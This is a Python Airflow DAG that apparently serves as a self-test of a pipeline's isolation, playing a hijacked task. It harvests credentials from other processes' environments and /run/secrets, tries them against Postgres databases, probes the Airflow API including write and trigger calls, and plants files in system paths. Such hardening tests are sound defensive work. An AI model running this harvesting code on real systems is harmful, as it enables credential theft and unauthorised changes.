"""A DAG whose task has been taken over: it looks for what it may not have, and returns the loot.

It is mounted beside the DAGs of the image. Nothing of this project imports it.
"""

from __future__ import annotations

import json
import os
import re
from itertools import product
from pathlib import Path
from typing import Any

import psycopg
import requests
from airflow.sdk import dag, task
from psycopg.conninfo import make_conninfo

_SECRET = re.compile("SECRET|FERNET|JWT|SQL_ALCHEMY|PASSWORD|_DSN|RESULT_BACKEND|BROKER_URL")
_BLOCKED = "airflow-db-not-allowed"
_API = "http://api-server:8080"
_PLACES = ("/", "/etc", "/usr/bin", "/home/airflow", "/opt/pipeline/dags", "/opt/pipeline/venv/bin")
_DATABASES = (
    ("metadata", ("postgres", "airflow", "celery"), ("airflow", "postgres", "celery")),
    ("warehouse", ("postgres", "owner"), ("warehouse", "postgres")),
    ("warehouse", ("loader", "transformer", "reader"), ("postgres", "template1")),
)
_REQUESTS: tuple[tuple[str, str, Any], ...] = (
    ("GET", "/api/v2/connections", None),
    ("GET", "/api/v2/variables", None),
    ("GET", "/api/v2/config", None),
    ("GET", "/auth/fab/v1/users", None),
    ("POST", "/api/v2/variables", {"key": "planted", "value": "1"}),
    ("PATCH", "/api/v2/dags/ingest_posts", {"is_paused": True}),
    ("POST", "/api/v2/dags/ingest_posts/dagRuns", {"logical_date": None}),
)


def _readable(place: Path) -> str:
    try:
        return place.read_bytes().decode(errors="replace")
    except OSError:
        return ""


def _variables() -> dict[str, str]:
    """Return the variables of every process whose environment can be read.

    Airflow replaces the address of the metadata in a task's own environment by one that fails.
    """
    found = dict(os.environ)
    for place in Path("/proc").glob("[0-9]*/environ"):
        pairs = [pair.partition("=") for pair in _readable(place).split("\0")]
        found |= {name: value for name, _, value in pairs if value}
    return {
        name: value
        for name, value in found.items()
        if value and _BLOCKED not in value and "/run/secrets/" not in value  # says where, not what
    }


def _connects(user: str, password: str, database: str, host: str) -> bool:
    place = make_conninfo(host=host, user=user, dbname=database, password=password)
    try:
        psycopg.connect(place, connect_timeout=5).close()
    except psycopg.OperationalError:
        return False
    return True


def _logins(passwords: set[str]) -> list[str]:
    return [
        f"{user}@{host}/{database}"
        for host, users, databases in _DATABASES
        for user, database in product(users, databases)
        if any(_connects(user, password, database, host) for password in passwords)
    ]


def _allowed(viewer: dict[str, str]) -> list[str]:
    """Return the requests that Airflow's API accepts from the login that a task has."""
    login = {"username": viewer["login"], "password": viewer["password"]}
    token = requests.post(f"{_API}/auth/token", json=login, timeout=20).json()["access_token"]
    headers = {"Authorization": f"Bearer {token}"}
    answers = {
        f"{method} {path}": requests.request(
            method, _API + path, json=body, headers=headers, timeout=20
        )
        for method, path, body in _REQUESTS
    }
    return [name for name, answer in answers.items() if answer.ok]


def _can_write(place: str) -> bool:
    try:
        Path(place, "planted").write_text("")
    except OSError:
        return False
    return True


@dag(schedule=None)
def hostile() -> None:
    """Attack from inside of a task."""

    @task
    def attack() -> dict[str, list[str]]:
        values = _variables()
        connections = {
            name: json.loads(value)
            for name, value in values.items()
            if name.startswith("AIRFLOW_CONN_") and value
        }
        files = {str(place): _readable(place) for place in Path("/run/secrets").glob("*")}
        texts = [*values.values(), *files.values()]
        passwords = set(re.findall(r"//\w*:([^@/]+)@", " ".join(texts))) | set(files.values())
        passwords |= {one["password"] for one in connections.values() if one.get("password")}
        return {
            "variables": sorted(filter(_SECRET.search, values)),
            "connections": sorted(connections),
            "files": sorted(place for place, text in files.items() if text),
            "logins": _logins(passwords),
            "allowed": _allowed(connections["AIRFLOW_CONN_AIRFLOW_API"]),
            "written": [place for place in _PLACES if _can_write(place)],
            "rights": re.findall(
                r"(?:CapEff|NoNewPrivs|Uid):.*", _readable(Path("/proc/self/status"))
            ),
        }

    attack()


hostile()
